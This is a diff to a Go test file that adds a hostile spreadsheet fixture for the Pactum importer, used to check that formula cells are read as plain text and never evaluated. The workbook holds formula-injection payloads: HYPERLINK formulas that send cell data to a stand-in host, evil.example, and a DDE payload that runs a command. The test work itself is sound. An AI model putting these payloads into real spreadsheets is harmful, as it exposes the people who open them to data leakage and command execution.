@@ -286,6 +286,20 @@ var hostileFixtures = []hostileFixture{
 	}, 2, "import.error.xlsx"},
 }
 
+// formulaCells is a partner workbook whose cells are formulas a spreadsheet would run: the name
+// of one partner computed by HYPERLINK, an acronym by a DDE call, with the values Excel saved, and
+// a name that is text starting like a formula. Pactum reads the saved values and the text as
+// text, and never evaluates anything.
+func formulaCells(t testing.TB) []byte {
+	return zipParts(t, bookParts(headerRow+
+		`<row r="2"><c t="inlineStr"><is><t>kestrel-bank</t></is></c>`+
+		`<c t="str"><f>HYPERLINK("http://evil.example/?d="&amp;A2,"Kestrel Bank")</f><v>Kestrel Bank</v></c>`+
+		`<c t="inlineStr"><is><t>development_bank</t></is></c><c t="inlineStr"><is><t>none</t></is></c><c t="inlineStr"><is><t>active</t></is></c></row>`+
+		`<row r="3"><c t="inlineStr"><is><t>condor-fund</t></is></c>`+
+		`<c t="inlineStr"><is><t>=HYPERLINK("http://evil.example/?d="&amp;A3,"Open")</t></is></c>`+
+		`<c t="str"><f>cmd|' /C calc'!A0</f><v>foundation</v></c><c t="inlineStr"><is><t>none</t></is></c><c t="inlineStr"><is><t>active</t></is></c></row>`, "", ""))
+}
+
 // bombRow is where the zip stops the bomb that says it holds 1 MB: on the row after those that
 // fit in a megabyte.
 var bombRow = (1<<20-len(openSheet(headerRow)))/len(`<row><c><v>1</v></c></row>`) + 2
@@ -358,5 +372,8 @@ func TestWriteHostileFixtures(t *testing.T) {
 		if err := os.WriteFile(filepath.Join(dir, f.name+".xlsx"), hostileFile(t, f.name), 0o644); err != nil {
 			t.Fatal(err)
 		}
+	}
+	if err := os.WriteFile(filepath.Join(dir, "formula cells.xlsx"), formulaCells(t), 0o644); err != nil {
+		t.Fatal(err)
 	}
 }
